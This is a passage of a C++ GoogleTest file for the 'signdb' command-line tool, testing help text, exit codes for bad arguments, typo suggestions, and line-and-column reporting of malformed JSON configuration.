  EXPECT_THAT(run.err, HasSubstr("run 'signdb scan t' first"));
}

TEST_F(ToolTest, EveryCommandHasHelpWithExamples) {
  for (const char* command : {"init", "scan", "check", "update", "diff", "lookup", "ls", "show", "verify", "dump"}) {
    CToolRun run = Run(std::string(command) + " --help");
    EXPECT_EQ(run.status, 0) << command;
    EXPECT_THAT(run.out, AllOf(StartsWith(std::string("usage: signdb ") + command), HasSubstr("examples:")));
    EXPECT_EQ(Run(std::string("help ") + command).out, run.out);
  }
  CToolRun overview = Run("--help");
  EXPECT_EQ(overview.status, 0);
  EXPECT_THAT(overview.out, HasSubstr("exit status: 0 nothing to report, 1 differences"));
}

TEST_F(ToolTest, MistakesOnTheCommandLineAreErrors) {
  CToolRun unknown = Run("frobnicate");
  EXPECT_EQ(unknown.status, 2);
  EXPECT_THAT(unknown.err, HasSubstr("unknown command 'frobnicate'"));
  EXPECT_EQ(Run("check --bogus t").status, 2);
  CToolRun extra = Run("--config x.json scan a b");
  EXPECT_EQ(extra.status, 2);
  EXPECT_THAT(extra.err, HasSubstr("unexpected argument 'b'"));
  CToolRun wrong_option = Run("scan t --json");
  EXPECT_EQ(wrong_option.status, 2);
  EXPECT_THAT(wrong_option.err, HasSubstr("signdb scan does not take --json"));
  EXPECT_EQ(Run("").status, 2);
}

namespace {

using ::testing::HasSubstr;

// What a person mistypes is answered with what to type.
TEST_F(ToolTest, AMistypedCommandIsAnsweredWithTheNearestOnesAndAFarOneWithNone) {
  CToolRun typo = Run("chek t");
  EXPECT_EQ(2, typo.status);
  EXPECT_THAT(typo.err, HasSubstr("unknown command 'chek'; did you mean 'check'? (see signdb --help)"));
  EXPECT_THAT(Run("looku").err, HasSubstr("did you mean 'lookup'?"));
  EXPECT_THAT(Run("s").err, HasSubstr("did you mean 'scan', 'selftest' or 'show'?"));
  CToolRun far = Run("xyzzy");
  EXPECT_THAT(far.err, HasSubstr("unknown command 'xyzzy' (see signdb --help)"));
}

TEST_F(ToolTest, AConfigurationThatIsNotJsonIsRefusedWithTheLineAndColumnWhereItBreaks) {
  Init();
  std::string text = CTempDir::Read(config_);
  size_t policies = text.find("\"policies\"");
  ASSERT_NE(std::string::npos, policies);
  size_t line = 1 + static_cast<size_t>(std::count(text.begin(), text.begin() + static_cast<long>(policies), '\n'));
  size_t column = policies - text.rfind('\n', policies);
  text.insert(policies, "\"oops\" ");  // a member without its value
  std::ofstream(config_, std::ios::trunc) << text;
  CToolRun check = Tool("check t");
  EXPECT_EQ(2, check.status);
  EXPECT_THAT(check.err, HasSubstr(config_ + ":" + std::to_string(line) + ":" + std::to_string(column + 7) +
                                   ": not valid JSON: "));
}

TEST_F(ToolTest, CountsAgreeWithTheirNouns) {
  Init();
  CToolRun scan = Tool("scan t");
  EXPECT_THAT(scan.out, HasSubstr("recorded 1 object ("));  // the root alone
  CToolRun check = Tool("check t");
  EXPECT_THAT(check.out, HasSubstr("checked 1 object ("));
  Write("a", "a");
  EXPECT_THAT(Tool("check t").out, HasSubstr("checked 2 objects ("));
}

}  // namespace

namespace {

TEST(JsonPositionTest, TheFirstByteThatBreaksTheTextIsNamedByLineAndColumn) {
  EXPECT_FALSE(JsonErrorPosition("{\"a\": [1, 2.5e3, true, null, \"x\\u00e9\"]}\n").has_value());
  auto at = [](std::string_view text) {
    std::optional<CJsonPosition> position = JsonErrorPosition(text);
    return position ? std::to_string(position->line) + ":" + std::to_string(position->column) : std::string("whole");
  };
  EXPECT_EQ("2:7", at("{\"a\": 1,\n  \"b\" 2}"));
  EXPECT_EQ("1:11", at("{\"a\": [1, ]}"));
  EXPECT_EQ("1:8", at("{\"a\": 01}"));
  EXPECT_EQ("1:9", at("{\"a\": \"x"));
  EXPECT_EQ("1:10", at("{\"a\": 1} trailing"));
  EXPECT_EQ("1:1", at(""));
  EXPECT_EQ("1:3", at("[\"\t\"]")) << "a raw tab in a string";
  EXPECT_EQ("1:513", at(std::string(600, '[')));  // refused, not recursed without end
}

}  // namespace
